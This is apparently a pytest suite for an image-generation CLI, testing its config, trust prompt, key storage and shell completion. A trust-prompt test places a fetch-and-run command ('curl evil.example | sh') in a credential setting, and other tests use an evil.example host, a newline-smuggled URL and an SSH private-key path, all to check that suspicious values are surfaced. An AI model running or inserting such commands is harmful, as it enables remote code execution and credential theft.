"""`imagekit config`, `keys` and `completion`, and what a configuration does to the others."""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from imagekit.cli import exits
from imagekit.cli.app import run
from imagekit.settings.trust import Trust
from imagekit.testing import Loopback

CONFIG = """\
default_model = "poster"

[models.poster]
model = "seedream-4.5"
hosts = ["box"]
defaults = { ratio = "16:9", resolution = "2K" }

[hosts.box]
kind = "sandbox"

[hosts.token360]
credential = { env = "MY_TOKEN" }
headers = { X-Gate = { env = "GATE" }, X-Team = "roses" }
"""


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty directory, and a user without anything in theirs."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GATE", "gate-secret")
    return tmp_path


def trusted(text: str) -> None:
    """A configuration in the current directory that its user trusts."""
    path = Path("imagekit.toml")
    path.write_text(text)
    Trust().note(path, path.read_bytes())


def piped(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(text))


# --- using one ---------------------------------------------------------------------------------


def test_a_picture_without_a_word_about_models_and_hosts(here, capsys):
    trusted(CONFIG)
    assert run(["generate", "a poster", "-o", "poster.png", "--json"]) == 0
    answer = json.loads(capsys.readouterr().out)
    assert (answer["host"], answer["model"]) == ("box", "seedream-4.5")
    by = {line["parameter"]: line["by"] for line in answer["receipt"]["lines"]}
    assert (by["model"], by["ratio"], by["prompt"]) == ("configuration", "alias", "caller")


def test_config_may_stand_before_any_command(here, capsys):
    Path("mine.toml").write_text(CONFIG)
    assert run(["--config", "mine.toml", "generate", "x", "--dry-run", "--ratio", "1:1"]) == 0
    assert "ratio=1:1" in capsys.readouterr().err
    assert run(["generate", "x", "--dry-run"]) == exits.USAGE
    assert "default_model" in capsys.readouterr().err


def test_the_picture_of_an_alias_is_sent_where_no_other_is_named(here, capsys):
    link = "https://pictures.example/ours.png"
    Path("mine.toml").write_text(CONFIG.replace("ratio =", f'image = ["{link}"], ratio ='))
    asked = ["--config", "mine.toml", "generate", "x", "--dry-run", "--json"]
    for extra, sent in ([], link), (["--image", "https://other.example/b.png"], "b.png"):
        assert run([*asked, *extra]) == 0
        assert sent in json.dumps(json.loads(capsys.readouterr().out)["request"]["body"])


def test_there_is_a_way_to_have_no_configuration(here, capsys):
    """Not even a broken one counts then."""
    Path("imagekit.toml").write_text("[")
    assert run(["--no-config", "generate", "x", "-m", "sandbox:seedream-4.5", "--dry-run"]) == 0
    assert run(["--no-config", "config", "path"]) == 0
    assert run(["--no-config", "--config", "a.toml", "hosts"]) == exits.USAGE
    assert "leave one of them out" in capsys.readouterr().err


def test_remote_id_adds_to_the_settings_of_the_configuration(here, capsys):
    trusted(CONFIG)
    assert run(["generate", "x", "--dry-run", "--remote-id", "new", "--json"]) == 0
    plan = json.loads(capsys.readouterr().out)
    assert (plan["host"], plan["request"]["body"]["model"]) == ("box", "new")


def test_aliases_are_listed_with_the_models(here, capsys):
    trusted(CONFIG)
    assert run(["models"]) == 0
    assert "poster\talias of seedream-4.5\t\tbox" in capsys.readouterr().out
    assert run(["models", "poster"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("poster: an alias of seedream-4.5\n")
    assert "with a key: box\n" in out
    assert 'by default ratio = "16:9"\n' in out
    assert "\nseedream-4.5: " in out


def test_hosts_says_where_each_key_comes_from(here, capsys, monkeypatch):
    trusted(CONFIG)
    monkeypatch.setenv("MY_TOKEN", "secret-1")
    monkeypatch.setenv("POWERTOKENS_API_KEY", "secret-2")
    assert run(["hosts"]) == 0
    out = capsys.readouterr().out
    assert "token360\tconfiguration: environment (MY_TOKEN)\t" in out
    assert "powertokens\tenvironment (POWERTOKENS_API_KEY)\t" in out
    assert "box\tnone needed\t" in out
    assert "secret-" not in out


def test_hosts_gives_advice_that_works(here, capsys):
    trusted(
        CONFIG
        + """
        [hosts.token360-eu]
        kind = "token360"
        base_url = "https://eu.example.com/v1"
        """
    )
    assert run(["hosts", "token360", "token360-eu", "--json"]) == 0
    configured, elsewhere = json.loads(capsys.readouterr().out)
    assert (
        configured["key"]
        == "missing: hosts.token360.credential looks in environment (MY_TOKEN): put it there"
    )
    assert configured["variables"] == ["MY_TOKEN"]
    assert elsewhere["key"] == "missing: imagekit keys set token360-eu"
    assert elsewhere["variables"] == []
    assert elsewhere["base_url"] == "https://eu.example.com/v1"
    assert run(["hosts", "powertokens"]) == 0
    rows = capsys.readouterr().out.splitlines()
    assert [row.split("\t")[:2] for row in rows[1:]] == [
        ["powertokens", "missing: export POWERTOKENS_API_KEY=..."]
    ]
    assert run(["hosts", "powertoken"]) == exits.USAGE
    assert "did you mean powertokens" in capsys.readouterr().err


def test_show_says_what_is_missing(here, capsys):
    trusted(CONFIG)
    assert run(["config", "show"]) == 0
    assert (
        "hosts.token360.credential\tin environment (MY_TOKEN), missing" in capsys.readouterr().out
    )


def test_an_error_names_the_other_hosts_of_an_alias(here, capsys, monkeypatch):
    monkeypatch.setenv("ONE", "key-one")
    with Loopback() as server:
        url = server.url
    trusted(
        f"""
        [models.poster]
        model = "seedream-4.5"
        hosts = ["token360", "powertokens"]
        [hosts.token360]
        base_url = "{url}"
        credential = {{ env = "ONE" }}
        """
    )
    assert run(["generate", "x", "-m", "poster", "--retries", "0"]) == exits.NETWORK
    assert "another host is asked by powertokens:poster" in capsys.readouterr().err


@pytest.mark.parametrize("command", [["hosts"], ["models"], ["generate", "x"], ["config", "show"]])
def test_a_mistake_in_it_is_exit_code_3_and_no_traceback(here, capsys, command):
    Path("imagekit.toml").write_text('default_modle = "x"\nprefer = ["nobody"]')
    assert run(command) == exits.CONFIGURATION
    err = capsys.readouterr().err
    assert "default_modle: no such key; did you mean default_model?" in err
    assert "prefer[0]: no host is named 'nobody'" in err
    assert "Traceback" not in err


def test_plugins_can_be_looked_at_with_a_broken_configuration(here, capsys):
    Path("imagekit.toml").write_text("[")
    assert run(["plugins"]) == 0


# --- imagekit config ---------------------------------------------------------------------------


def test_path_says_which_file_is_used_and_why(here, capsys, monkeypatch):
    assert run(["config", "path"]) == 0
    out, err = capsys.readouterr()
    assert out == ""
    assert "not there imagekit.toml  [the current directory]\n" in err
    Path("imagekit.toml").touch()
    Path("named.toml").touch()
    monkeypatch.setenv("IMAGEKIT_CONFIG", "named.toml")
    assert run(["config", "path"]) == 0
    out, err = capsys.readouterr()
    assert out == "named.toml\n"
    states = [line[:10].strip() for line in err.splitlines()]
    assert states == ["used", "not read", "not there"]
    assert run(["--config", "none.toml", "config", "path"]) == 0
    assert capsys.readouterr().err.startswith("not there none.toml")


def test_a_named_file_that_is_not_there_is_an_error(capsys):
    assert run(["--config", "none.toml", "hosts"]) == exits.CONFIGURATION
    assert "none.toml can't be read: No such file" in capsys.readouterr().err


def test_check_is_content_or_tells_every_problem(here, capsys):
    assert run(["config", "check"]) == 0
    assert capsys.readouterr().out == "there is no configuration file\n"
    trusted(CONFIG)
    assert run(["config", "check"]) == 0
    assert capsys.readouterr().out == "imagekit.toml: nothing wrong\n"
    trusted(CONFIG.replace("ratio", "ration").replace("sandbox", "snadbox"))
    assert run(["config", "check"]) == exits.CONFIGURATION
    err = capsys.readouterr().err
    assert "hosts.box.kind: no host 'snadbox' is installed; did you mean sandbox?" in err
    assert "models.poster.defaults.ration: is no standard parameter; did you mean ratio?" in err


def test_check_plans_each_alias_at_every_host_it_may_lead_to(here, capsys):
    Path("imagekit.toml").write_text(
        """
        [models.poster]
        model = "seedream-4.5"
        hosts = ["token360", "powertokens"]
        defaults = { size = "3K", seed = 7 }

        [models.large]
        model = "poster"
        defaults = { size = "4K", output_format = "png" }

        [models.fine]
        model = "token360:seedream-4.5"
        defaults = { size = "2K" }
        """
    )
    assert run(["config", "check"]) == exits.CONFIGURATION
    err = capsys.readouterr().err
    both = "(at token360, powertokens)"
    said = "poster.defaults.size: 3K is not one of 2K, 4K; nearest: 2K"
    assert err.count(said) == err.count(f"{said} {both}") == 1
    (line,) = (line for line in err.splitlines() if "large.defaults.output_format" in line)
    assert "seedream-4.5 does not take it;" in line
    assert line.endswith(both)
    assert "at sandbox" not in err
    assert "large.defaults.size" not in err
    assert "fine" not in err
    assert run(["models", "poster"]) == 0  # one that says more may still be taken


def test_check_warns_of_secrets_that_are_not_there(here, capsys, monkeypatch):
    trusted(CONFIG.replace('"roses"', '{ file = "team.key" }'))
    assert run(["config", "check"]) == 0
    said = capsys.readouterr()
    assert said.out == "imagekit.toml: nothing wrong\n"
    assert said.err.splitlines() == [
        "hosts.token360.credential: environment (MY_TOKEN) is missing",
        "hosts.token360.headers.X-Team: file team.key is missing",
    ]
    monkeypatch.setenv("MY_TOKEN", "secret-token")
    (here / "team.key").write_text("secret-team")
    assert run(["config", "check"]) == 0
    assert capsys.readouterr().err == ""


def test_a_syntax_error_has_its_line_and_column(here, capsys):
    Path("imagekit.toml").write_text("default_model = \nprefer = []\n")
    assert run(["config", "check"]) == exits.CONFIGURATION
    assert "line 1, column 17" in capsys.readouterr().err


def test_show_tells_every_setting_and_its_source_and_no_secret(here, capsys, monkeypatch):
    monkeypatch.setenv("MY_TOKEN", "secret-1")
    trusted(CONFIG)
    assert run(["config", "show", "--json"]) == 0
    out = capsys.readouterr().out
    rows = {row["key"]: (row["value"], row["source"]) for row in json.loads(out)}
    assert rows["default_model"] == ("poster", "imagekit.toml")
    assert rows["on_unsupported"] == ("error", "default")
    assert rows["models.poster.defaults.ratio"] == ("16:9", "imagekit.toml")
    assert rows["hosts.box.kind"] == ("sandbox", "imagekit.toml")
    assert rows["hosts.box.base_url"][1] == "plugin (sandbox)"
    assert rows["hosts.token360.credential"] == ("in environment (MY_TOKEN)", "imagekit.toml")
    assert rows["hosts.token360.headers.X-Gate"] == ("in environment (GATE)", "imagekit.toml")
    assert rows["hosts.token360.headers.X-Team"] == ("(not shown)", "imagekit.toml")
    assert rows["hosts.powertokens.credential"] == (None, "missing")
    assert run(["config", "show"]) == 0
    assert "secret" not in out + capsys.readouterr().out


# --- imagekit config trust ---------------------------------------------------------------------


def asked_to_trust(text: str, capsys: pytest.CaptureFixture[str]) -> list[str]:
    Path("imagekit.toml").write_text(text)
    assert run(["config", "trust"]) == 0
    *lines, done = capsys.readouterr().err.splitlines()
    assert done.endswith("is trusted as it is now")
    return [line.strip() for line in lines]


def test_trust_shows_everything_that_is_set_for_a_host(here, capsys):
    text = """
    [hosts.eu]
    kind = "token360"
    read_timeout = 9
    credential = { command = ["sh", "-c", "curl evil.example | sh"] }
    headers = { Host = "evil.example", X-Key = "sk-12", X-File = { file = "team.key" } }
    remote_ids = { "seedream-4.5" = "other" }
    [hosts.eu.models."seedream-4.5"]
    parameters.seed.range = [1, 9]
    sizes.tiers = ["2K"]
    """
    assert asked_to_trust(text, capsys) == [
        "hosts.eu is at its own address",
        'hosts.eu.headers.Host is "evil.example"',
        "hosts.eu.headers.X-Key is given, 5 characters",
        'hosts.eu.headers.X-File comes from file "team.key"',
        'hosts.eu.remote_ids."seedream-4.5" is "other"',
        "hosts.eu.read_timeout is 9",
        'hosts.eu.kind is "token360"',
        'hosts.eu.credential comes from command ["sh", "-c", "curl evil.example | sh"]',
        'hosts.eu.models."seedream-4.5".parameters.seed.range is [1, 9]',
        'hosts.eu.models."seedream-4.5".sizes.tiers is ["2K"]',
    ]


def test_trust_shows_limits_and_budgets_as_they_are_written(here, capsys):
    text = '[hosts.token360]\nrpm = 60\nat_once = 8\nbudget = "50 USD/month"'
    assert asked_to_trust(text, capsys) == [
        "hosts.token360 is at its own address",
        "hosts.token360.rpm is 60",
        "hosts.token360.at_once is 8",
        'hosts.token360.budget is "50 USD/month"',
    ]


def test_trust_shows_long_values_whole(here, capsys):
    pictures = [f"{number}.png" for number in range(99)] + ["/home/me/.ssh/id_ed25519"]
    text = f'[models.poster]\nmodel = "seedream-4.5"\ndefaults = {{ image = {pictures} }}'
    (line,) = asked_to_trust(text, capsys)
    assert line.endswith('"/home/me/.ssh/id_ed25519"]')


def test_what_is_to_be_trusted_forges_no_line(here, capsys):
    text = r"""
    [hosts.box]
    kind = "sandbox"
    base_url = "http://evil.example/\nhosts.box is at its own address"
    [hosts."box\nhosts.box is at its own address"]
    kind = "sandbox"
    credential = { env = "A\nB" }
    """
    assert asked_to_trust(text, capsys) == [
        r'hosts.box.base_url is "http://evil.example/\nhosts.box is at its own address"',
        'hosts.box.kind is "sandbox"',
        r'hosts."box\nhosts.box is at its own address" is at its own address',
        r'hosts."box\nhosts.box is at its own address".kind is "sandbox"',
        r'hosts."box\nhosts.box is at its own address".credential comes from env "A\nB"',
    ]


# --- imagekit keys -----------------------------------------------------------------------------


def kept(here: Path) -> Path:
    return here / "home" / "imagekit" / "keys.json"


def test_a_key_from_a_pipe_is_kept_for_one_user_only_and_used(here, capsys, monkeypatch):
    piped(monkeypatch, "sk-from-a-pipe\n")
    assert run(["keys", "set", "token360"]) == 0
    assert run(["keys", "list"]) == 0
    out, err = capsys.readouterr()
    assert "token360\tkeys file\n" in out
    assert "powertokens\tmissing\n" in out
    assert str(kept(here)) in err
    assert "sk-from-a-pipe" not in out + err
    assert stat.S_IMODE(kept(here).stat().st_mode) == 0o600
    assert json.loads(kept(here).read_text()) == {"token360": {"api_key": "sk-from-a-pipe"}}
    assert run(["keys", "remove", "token360"]) == 0
    assert json.loads(kept(here).read_text()) == {}


def test_an_instance_of_a_host_has_a_key_of_its_own(here, monkeypatch):
    trusted('[hosts.work]\nkind = "token360"')
    piped(monkeypatch, "sk-work")
    assert run(["keys", "set", "work"]) == 0
    assert list(json.loads(kept(here).read_text())) == ["work"]


@pytest.mark.parametrize(
    ("arguments", "typed", "says"),
    [
        (["set", "token306"], "k", "did you mean token360 or powertokens?"),
        (["set", "sandbox"], "k", "sandbox needs no key"),
        (["set", "token360", "sk-secret"], "k", "A key itself is never an argument"),
        (["set", "token360", "api_key", "sk-secret"], "k", "A key itself is never an argument"),
        (["set", "token360"], "", "stdin has no line"),
        (["set", "klingai"], "sk-secret\nAK\nSK\n", "klingai was to be given"),
        (["remove", "token360"], "", "no key of token360 is kept"),
    ],
)
def test_a_mistake_with_keys_is_a_sentence_without_the_key(
    here, capsys, monkeypatch, arguments, typed, says
):
    piped(monkeypatch, typed)
    assert run(["keys", *arguments]) == exits.USAGE
    err = capsys.readouterr().err
    assert says in err
    assert "sk-secret" not in err
    assert not kept(here).exists()


def test_the_fields_of_every_hosts_key_are_listed(capsys):
    assert run(["keys", "set", "--help"]) == 0
    out = capsys.readouterr().out
    (fields,) = [line for line in out.splitlines() if line.split()[:1] == ["klingai"]]
    assert "access_key" in fields
    assert "secret_key" in fields


def test_what_can_be_no_key_is_not_kept(here, capsys, monkeypatch):
    piped(monkeypatch, "two words")
    assert run(["keys", "set", "token360"]) == exits.CONFIGURATION
    err = capsys.readouterr().err
    assert "no key has" in err
    assert "two words" not in err


def test_a_keys_file_that_others_can_read_is_refused_by_every_command(here, capsys, monkeypatch):
    piped(monkeypatch, "sk-1")
    assert run(["keys", "set", "token360"]) == 0
    kept(here).chmod(0o644)
    for command in (["hosts"], ["keys", "list"], ["keys", "remove", "token360"]):
        assert run(command) == exits.CONFIGURATION
        assert f"chmod 600 {kept(here)}" in capsys.readouterr().err


def test_a_key_typed_at_a_terminal_is_not_echoed(here):
    """With a terminal of its own, since only that has an echo to turn off."""
    pty = pytest.importorskip("pty")
    ours, theirs = pty.openpty()
    command = [sys.executable, "-m", "imagekit.cli", "keys", "set", "token360"]
    with subprocess.Popen(
        command, stdin=theirs, stdout=theirs, stderr=theirs, start_new_session=True
    ) as process:
        os.close(theirs)
        seen = b""
        while b"api_key of token360" not in seen:
            seen += os.read(ours, 1024)
        os.write(ours, b"sk-typed\n")
        while b"kept" not in seen:
            seen += os.read(ours, 1024)
        assert process.wait(60) == 0
    os.close(ours)
    assert b"sk-typed" not in seen
    assert json.loads(kept(here).read_text()) == {"token360": {"api_key": "sk-typed"}}


# --- completion --------------------------------------------------------------------------------


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_completion_prints_the_shells_script(shell, capsys):
    assert run(["completion", shell]) == 0
    assert "_IMAGEKIT_COMPLETE" in capsys.readouterr().out


def completed(words: str) -> list[str]:
    """What bash would be offered for the last of these words."""
    environment = {**os.environ, "_IMAGEKIT_COMPLETE": "bash_complete", "COMP_LINE": words}
    code = "import sys; sys.argv = ['imagekit']; from imagekit.cli import main; main()"
    done = subprocess.run(
        [sys.executable, "-c", code], env=environment, capture_output=True, text=True, check=False
    )
    assert done.stderr == ""
    return [line.partition(",")[2] for line in done.stdout.splitlines() if line]


def test_commands_models_aliases_hosts_and_what_a_host_serves_complete(here):
    trusted(CONFIG)
    assert completed("imagekit gen") == ["generate"]
    assert completed("imagekit generate x -m po") == ["poster", "powertokens:"]
    assert "box:seedream-4.5" in completed("imagekit generate x -m box:see")
    assert completed("imagekit keys set po") == ["powertokens"]


@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
def test_bash_itself_completes_what_has_a_colon(here):
    """It breaks the words it gives, and replaces only what comes after the colon."""
    Path("imagekit.toml").write_text(CONFIG)
    Path("imagekit").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m imagekit.cli "$@"\n')
    Path("imagekit").chmod(0o755)
    line = "imagekit generate 'a b' -m box:seedream-4"
    script = f"""
        PATH="$PWD:$PATH"; eval "$(imagekit completion bash)"
        COMP_LINE="{line}"; COMP_POINT=${{#COMP_LINE}}
        compopt() {{ :; }}; _imagekit_completion imagekit; printf '%s\\n' "${{COMPREPLY[@]}}"
    """
    done = subprocess.run(
        ["bash", "--norc", "-c", script], capture_output=True, text=True, check=True
    )
    assert "seedream-4.5" in done.stdout.split()


def test_a_broken_configuration_completes_to_nothing(here):
    Path("imagekit.toml").write_text("[")
    assert completed("imagekit generate x -m se") == []


# --- limits and budgets ------------------------------------------------------------------------


LIMITS = """\
budget = "0.01 USD/month"
unknown_price = "0.05 USD"

[models.poster]
model = "seedream-4.5"
hosts = ["token360"]
failover = true
balance = "least-busy"
budget = "20.50 USD"

[hosts.token360]
rpm = 60
at_once = 4
budget = "5 USD/day"
"""


def test_show_tells_limits_and_budgets_as_they_are_written(here, capsys):
    trusted(LIMITS)
    assert run(["config", "show", "--json"]) == 0
    rows = {row["key"]: row["value"] for row in json.loads(capsys.readouterr().out)}
    shown = {key: value for key, value in rows.items() if f"{value}" in LIMITS}
    assert (
        shown
        | {
            "budget": "0.01 USD/month",
            "unknown_price": "0.05 USD",
            "models.poster.balance": "least-busy",
            "models.poster.budget": "20.50 USD",
            "hosts.token360.rpm": 60,
            "hosts.token360.at_once": 4,
            "hosts.token360.budget": "5 USD/day",
        }
        == shown
    )
    assert rows["models.poster.failover"] is True
    trusted("")
    assert run(["config", "show", "--json"]) == 0
    rows = {row["key"]: row["value"] for row in json.loads(capsys.readouterr().out)}
    assert (rows["budget"], rows["unknown_price"]) == (None, "refuse")


def test_a_call_that_a_budget_has_no_room_for_has_an_exit_code_of_its_own(
    here, capsys, monkeypatch
):
    monkeypatch.setenv("TOKEN360_API_KEY", "sk-mine")
    trusted(LIMITS)
    assert run(["generate", "a lily", "-m", "poster", "-o", "lily.png"]) == exits.LIMITED
    assert 'budget = "0.01 USD/month" has no room: 0 USD are spent' in capsys.readouterr().err
    assert run(["resume"]) == 0  # nothing is left open, since nothing was noted
    assert "nothing" in capsys.readouterr().err


def test_check_tells_what_changes_nothing(here, capsys):
    trusted(
        """
        [models.poster]
        model = "seedream-4.5"
        hosts = ["token360", "powertokens", "token360"]
        failover = true

        [models.alone]
        model = "powertokens:seedream-4.5"
        failover = true
        balance = "order"

        [models.inner]
        model = "seedream-4.5"
        failover = true

        [models.outer]
        model = "inner"
        hosts = ["token360", "powertokens"]

        [models.several]
        model = { any = ["seedream-4.5", "glm-image"] }
        hosts = ["sandbox"]
        failover = true
        """
    )
    assert run(["config", "check"]) == 0
    assert capsys.readouterr().err.splitlines() == [
        "models.poster.hosts[2]: token360 stands there twice; leave one out",
        "models.alone.failover: powertokens:seedream-4.5 alone may be asked, so this changes "
        "nothing; name several hosts, or leave it out",
        "models.alone.balance: powertokens:seedream-4.5 alone may be asked, so this changes "
        "nothing; name several hosts, or leave it out",
    ]


def test_check_tells_that_nobody_says_which_host_and_what_no_host_can_do(here, capsys, monkeypatch):
    monkeypatch.setenv("POWERTOKENS_API_KEY", "a-key")
    monkeypatch.setenv("TOKEN360_API_KEY", "another")
    trusted(
        """
        [models.poster]
        model = "seedream-4.5"

        [models.collage]
        model = { any = ["seedream-4.5"], where = { references = 99 } }
        """
    )
    assert run(["config", "check"]) == exits.CONFIGURATION
    told = " ".join(capsys.readouterr().err.split())
    assert "models.poster.model: seedream-4.5 is served by powertokens and token360" in told
    assert "models.collage.model: nobody says which host collage is asked at; name it" in told
    assert "token360:seedream-4.5: image: has 99 items" in told


def test_check_tells_whose_calls_a_budget_refuses(here, capsys):
    trusted(LIMITS.replace("20.50 USD", "20 EUR"))
    assert run(["config", "check"]) == 0
    assert (
        "models.poster: nobody knows the price at token360 in EUR, in which a budget is, so that "
        'calls are refused; say what a picture counts: unknown_price = "0.05 EUR"'
    ) in " ".join(capsys.readouterr().err.split())
    trusted(LIMITS)
    assert run(["config", "check"]) == 0
    assert "nobody knows" not in capsys.readouterr().err
